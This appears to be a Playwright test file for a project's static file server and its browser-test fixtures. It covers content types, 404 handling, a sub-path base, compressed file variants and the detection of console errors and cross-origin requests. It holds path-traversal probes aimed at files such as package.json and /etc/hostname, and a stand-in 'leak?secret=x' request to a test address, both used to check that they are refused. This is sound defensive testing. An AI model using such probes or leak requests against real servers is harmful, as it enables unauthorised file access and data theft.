// The test support itself, so a passing browser test can be trusted: the static host the suite
// runs against (scripts/static-host.mjs: content types, the 404.html fallback, a sub-path, the
// precompressed twins, nothing outside its root or base) and the fixtures' watch on console
// problems and on requests to other origins (fixtures.mjs, support/watch.mjs).
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { brotliCompressSync, brotliDecompressSync, gunzipSync, gzipSync } from 'node:zlib';
import { test, expect, expectClean } from './fixtures.mjs';
import { createStaticHost } from '../../scripts/static-host.mjs';
import { openApplications } from './support/app.mjs';

const REPO = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const DIST = path.join(REPO, 'dist');
const STATIC_HOST = path.join(REPO, 'scripts', 'static-host.mjs');

/** A raw request, the path sent exactly as written (no URL normalisation of `..` or `%2e`). */
function request(origin, pathname, { method = 'GET', headers = {} } = {}) {
  const { hostname, port } = new URL(origin);
  return new Promise((resolve, reject) => {
    const sent = http.request({ hostname, port, path: pathname, method, headers }, (response) => {
      const chunks = [];
      response.on('data', (chunk) => chunks.push(chunk));
      response.on('end', () => resolve({ status: response.statusCode, headers: response.headers, body: Buffer.concat(chunks) }));
    });
    sent.on('error', reject);
    sent.end();
  });
}
const get = (origin, pathname, headers) => request(origin, pathname, { headers });

/** Starts `createStaticHost(options)` on a free port of 127.0.0.1; resolves to its origin and a close function. */
async function startHost(options) {
  const server = createStaticHost(options);
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    origin: `http://127.0.0.1:${server.address().port}`,
    close: () => new Promise((done) => server.close(done)),
  };
}

test.describe('The static host', () => {
  let host;
  let files;
  let notFoundPage;
  test.beforeAll(async () => {
    host = await startHost({ root: DIST });
    files = await readdir(DIST);
    notFoundPage = await readFile(path.join(DIST, '404.html'));
  });
  test.afterAll(() => host?.close());

  test('it serves each built file with its content type, the wasm module as application/wasm', async () => {
    const expected = { '.wasm': /^application\/wasm$/, '.js': /^text\/javascript/, '.css': /^text\/css/, '.html': /^text\/html/, '.svg': /^image\/svg\+xml/ };
    for (const [extension, type] of Object.entries(expected)) {
      const file = files.find((name) => name.endsWith(extension));
      expect(file, `dist/ has a ${extension} file`).toBeDefined();
      const response = await get(host.origin, `/${file}`);
      expect(response.status, file).toBe(200);
      expect(response.headers['content-type'], file).toMatch(type);
      expect(response.body.equals(await readFile(path.join(DIST, file))), `${file} is sent as built`).toBe(true);
    }
  });

  test('the root gets index.html; a path that names no file, a deep link too, gets 404.html with status 404', async () => {
    const index = await get(host.origin, '/');
    expect(index.status).toBe(200);
    expect(index.body.equals(await readFile(path.join(DIST, 'index.html')))).toBe(true);
    for (const pathname of ['/applications', '/applications/0badc0de-0000-4000-8000-000000000000/configuration', '/missing.js']) {
      const response = await get(host.origin, pathname);
      expect(response.status, pathname).toBe(404);
      expect(response.headers['content-type'], pathname).toMatch(/^text\/html/);
      expect(response.body.equals(notFoundPage), `${pathname} gets 404.html`).toBe(true);
    }
  });

  test('nothing outside the served directory is reachable', async () => {
    const outsideFile = await readFile(path.join(REPO, 'package.json'));
    for (const pathname of ['/%2e%2e/package.json', '/..%2fpackage.json', '/../package.json', '/%2e%2e%2f%2e%2e%2fetc/hostname']) {
      const response = await get(host.origin, pathname);
      expect(response.status, pathname).toBe(404);
      expect(response.body.equals(outsideFile), `${pathname} does not send a file outside dist/`).toBe(false);
      expect(response.body.equals(notFoundPage), `${pathname} gets 404.html`).toBe(true);
    }
  });

  test('only GET and HEAD are answered, HEAD without a body', async () => {
    const head = await request(host.origin, '/', { method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(Number(head.headers['content-length'])).toBeGreaterThan(0);
    expect(head.body.length).toBe(0);
    const post = await request(host.origin, '/', { method: 'POST' });
    expect(post.status).toBe(405);
    expect(post.headers.allow).toBe('GET, HEAD');
  });
});

test.describe('The static host under a sub-path (--base)', () => {
  let child;
  let origin;
  test.beforeAll(async () => {
    child = spawn(process.execPath, [STATIC_HOST, '--root', DIST, '--port', '0', '--base', 'console'], { stdio: ['ignore', 'pipe', 'inherit'] });
    const [line] = await once(child.stdout, 'data');
    const url = new URL(/http:\/\/\S+/.exec(line.toString())[0]);
    expect(url.hostname, 'it listens on 127.0.0.1 only').toBe('127.0.0.1');
    expect(url.pathname, 'the base is normalised to /console/').toBe('/console/');
    origin = url.origin;
  });
  test.afterAll(() => child?.kill());

  test('the site is served at /console/, and /console redirects there', async () => {
    const index = await get(origin, '/console/');
    expect(index.status).toBe(200);
    expect(index.body.equals(await readFile(path.join(DIST, 'index.html')))).toBe(true);
    const favicon = await get(origin, '/console/favicon.svg');
    expect(favicon.status).toBe(200);
    expect(favicon.headers['content-type']).toMatch(/^image\/svg\+xml/);
    const bare = await get(origin, '/console');
    expect(bare.status).toBe(301);
    expect(bare.headers.location).toBe('/console/');
  });

  test('a deep link under the base gets 404.html with status 404', async () => {
    const response = await get(origin, '/console/applications/0badc0de-0000-4000-8000-000000000000/overview');
    expect(response.status).toBe(404);
    expect(response.body.equals(await readFile(path.join(DIST, '404.html')))).toBe(true);
  });

  test('nothing outside the base is served, not even the files of the site', async () => {
    for (const pathname of ['/', '/index.html', '/favicon.svg', '/consolex/']) {
      const response = await get(origin, pathname);
      expect(response.status, pathname).toBe(404);
      expect(response.headers['content-type'], pathname).toMatch(/^text\/plain/);
    }
  });
});

test.describe('The static host with precompressed twins', () => {
  const SCRIPT = `export const greeting = ${JSON.stringify('hello '.repeat(200))};\n`;
  let site;
  let host;
  test.beforeAll(async () => {
    site = await mkdtemp(path.join(os.tmpdir(), 'csc-static-host-'));
    await writeFile(path.join(site, 'index.html'), '<!doctype html><title>twins</title>');
    await writeFile(path.join(site, 'app.js'), SCRIPT);
    await writeFile(path.join(site, 'app.js.br'), brotliCompressSync(SCRIPT));
    await writeFile(path.join(site, 'app.js.gz'), gzipSync(SCRIPT));
    await writeFile(path.join(site, 'plain.css'), 'body { color: black; }');
    host = await startHost({ root: site });
  });
  test.afterAll(async () => {
    await host?.close();
    if (site) await rm(site, { recursive: true, force: true });
  });

  test('the .br twin is sent with content-encoding br when the request accepts br', async () => {
    const response = await get(host.origin, '/app.js', { 'accept-encoding': 'gzip, deflate, br' });
    expect(response.status).toBe(200);
    expect(response.headers['content-encoding']).toBe('br');
    expect(response.headers['content-type']).toMatch(/^text\/javascript/);
    expect(response.headers.vary).toBe('accept-encoding');
    expect(brotliDecompressSync(response.body).toString()).toBe(SCRIPT);
  });

  test('the .gz twin is sent with content-encoding gzip when the request accepts gzip only', async () => {
    const response = await get(host.origin, '/app.js', { 'accept-encoding': 'gzip;q=1.0' });
    expect(response.headers['content-encoding']).toBe('gzip');
    expect(gunzipSync(response.body).toString()).toBe(SCRIPT);
  });

  test('without an accepted encoding, or without a twin, the file is sent as it is', async () => {
    const identity = await get(host.origin, '/app.js');
    expect(identity.headers['content-encoding']).toBeUndefined();
    expect(identity.body.toString()).toBe(SCRIPT);
    const noTwin = await get(host.origin, '/plain.css', { 'accept-encoding': 'gzip, br' });
    expect(noTwin.headers['content-encoding']).toBeUndefined();
    expect(noTwin.body.toString()).toBe('body { color: black; }');
  });

  test('without a 404.html a path that names no file is a plain 404', async () => {
    const response = await get(host.origin, '/applications');
    expect(response.status).toBe(404);
    expect(response.headers['content-type']).toMatch(/^text\/plain/);
  });
});

test.describe("The fixtures' watch", () => {
  test('a request to another origin is blocked and recorded in foreignRequests, so the test would fail', async ({ page, problems, foreignRequests }) => {
    await openApplications(page);
    expectClean({ problems, foreignRequests });
    // The app's Content-Security-Policy would stop a fetch before it is made; a navigation is not.
    await expect(page.goto('http://192.0.2.1/leak?secret=x')).rejects.toThrow(/ERR_BLOCKED_BY_CLIENT/);
    expect(foreignRequests).toEqual(['GET http://192.0.2.1/leak?secret=x']);
    expect(() => expectClean({ problems, foreignRequests })).toThrow(/another origin/);
    foreignRequests.length = 0;
  });

  test('a console error or warning and an uncaught error are recorded in problems, so the test would fail', async ({ page, problems, foreignRequests }) => {
    await openApplications(page);
    await page.evaluate(() => {
      console.warn('a warning');
      console.error('an error');
      setTimeout(() => {
        throw new Error('uncaught');
      });
    });
    await expect.poll(() => problems.length).toBe(3);
    expect(problems.join('\n')).toMatch(/console\.warning: a warning[\s\S]*console\.error: an error[\s\S]*uncaught: Error: uncaught/);
    expect(() => expectClean({ problems, foreignRequests })).toThrow(/no console error or warning/);
    problems.length = 0;
  });

  test("a deep link answered by the host's 404.html is not a problem, a missing file the page asks for is", async ({ page, problems }) => {
    await page.goto('/applications/0badc0de-0000-4000-8000-000000000000/overview');
    await expect(page.getByRole('heading', { name: 'Application not available', level: 2 })).toBeVisible();
    await page.reload();
    await expect(page.getByRole('heading', { name: 'Application not available', level: 2 })).toBeVisible();
    expect(problems).toEqual([]);
    expect(await page.evaluate(async () => (await fetch('/missing.js')).status)).toBe(404);
    await expect.poll(() => problems).toEqual([expect.stringMatching(/status of 404 .*\/missing\.js/)]);
    problems.length = 0;
  });

  test("a shared session has the project's settings and is watched like page", async ({ openSession }) => {
    const session = await openSession();
    try {
      await openApplications(session.page);
      expect(session.page.viewportSize()).toEqual({ width: 1280, height: 800 });
      expect(await session.page.evaluate(() => matchMedia('(prefers-color-scheme: light)').matches)).toBe(true);
      await session.page.evaluate(() => console.error('an error in a shared session'));
      await expect.poll(() => session.problems).toEqual([expect.stringContaining('an error in a shared session')]);
      expect(() => expectClean(session)).toThrow(/no console error or warning/);
    } finally {
      await session.close();
    }
  });
});
